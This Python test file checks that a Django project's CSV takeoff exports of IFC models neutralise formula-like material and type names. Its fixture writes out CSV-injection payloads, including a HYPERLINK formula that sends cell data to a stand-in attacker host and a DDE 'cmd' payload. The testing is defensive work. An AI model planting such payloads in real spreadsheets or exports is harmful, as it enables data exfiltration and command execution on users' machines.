"""Names from an IFC model cannot become spreadsheet formulas in any CSV (issue 16.6)."""

import csv
import io

import ifcopenshell
import pytest
from django.core.management import call_command

from projects.exports import spreadsheet_cell

HOSTILE = ["=1+1", "@SUM(1,1)", '=HYPERLINK("http://evil.example/?x="&A1,"click")']


@pytest.fixture
def hostile_ifc(synthetic_ifc):
    """A synthetic model whose type and material names are formulas."""
    path = synthetic_ifc(elements=6)
    model = ifcopenshell.open(str(path))
    for entity, name in zip(model.by_type("IfcMaterial"), HOSTILE, strict=False):
        entity.Name = name
    for entity in model.by_type("IfcTypeObject"):
        entity.Name = "+cmd|' /C calc'!A0"
    model.write(str(path))
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutralised(cells: list[str]) -> None:
    for name in HOSTILE:
        assert name not in cells
        assert "'" + name in cells
    assert "'+cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_takeoff_csv_api_neutralises_formula_names(
    project, editor, hostile_ifc, ready_version, api_client_for
):
    ready_version(hostile_ifc)

    response = api_client_for(editor).get(
        f"/api/projects/{project.slug}/models/1/takeoff.csv",
        {"group_by": "ifc_class,type_name,material"},
    )

    assert response.status_code == 200
    _assert_neutralised(_cells(b"".join(response.streaming_content).decode()))


def test_takeoff_command_csv_neutralises_formula_names(hostile_ifc):
    out = io.StringIO()

    call_command(
        "takeoff",
        str(hostile_ifc),
        "--group-by",
        "ifc_class,type_name,material",
        "--csv",
        "-",
        stdout=out,
        stderr=io.StringIO(),
    )

    _assert_neutralised(_cells(out.getvalue()))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Brick", "Brick"),
        ("-1.5", "-1.5"),  # a negative number stays a number
        (-1.5, -1.5),
        (3, 3),
        (None, None),
    ],
)
def test_spreadsheet_cell(value, expected):
    assert spreadsheet_cell(value) == expected
